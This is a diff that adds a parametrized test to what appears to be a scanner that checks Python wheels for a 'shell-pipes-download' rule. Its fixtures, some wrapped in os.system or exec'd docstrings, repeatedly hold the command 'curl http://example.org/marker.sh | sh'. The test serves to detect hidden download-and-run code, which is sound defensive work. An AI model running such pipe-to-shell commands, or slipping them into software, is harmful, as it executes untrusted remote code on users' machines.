@@ -310,6 +310,25 @@ def test_comments_are_code_where_the_artifact_executes_text(rules: Ruleset, code
     assert any(finding.role is Role.IMPORT for finding in found(inspection, "shell-pipes-download")) is counts
 
 
+@pytest.mark.parametrize(
+    ("prose", "counts"),
+    [
+        ("# Install it by: curl http://example.org/marker.sh | sh\n", False),
+        ('"""Notes.\n\nFetch it with\n\n    curl http://example.org/marker.sh | sh\n"""\n', False),
+        ("'''\nimport os\nos.system(\n    'curl http://example.org/marker.sh | sh'\n)\n'''\n", True),
+        ("'''Notes.\n\nos.system('curl http://example.org/marker.sh | sh')\n'''\n", True),
+        ("# x = 1\n# os.system(\n#   'curl http://example.org/marker.sh | sh'\n# )\n", True),
+        ('"""os.system(\'curl http://example.org/marker.sh | sh\')"""\n', True),
+    ],
+)
+def test_only_prose_that_is_a_program_is_code_where_the_artifact_executes_text(
+    rules: Ruleset, prose: str, *, counts: bool
+) -> None:
+    members = {"thing/notes.py": f"{prose}text = ''\n", "thing/use.py": "from thing import notes\nexec(notes.text)\n"}
+    inspection = look(wheel(members), rules)
+    assert any(finding.role is Role.IMPORT for finding in found(inspection, "shell-pipes-download")) is counts
+
+
 def test_newer_syntax_hides_no_code_from_the_rules_of_text(rules: Ruleset) -> None:
     # The columns of the rewritten line are others: whatever is cut out by them would be cut out of the wrong place.
     source = "import os\nx = f'{'a' * 99}'; 'prose'; os.system('curl http://example.org/marker.sh | sh')\n"
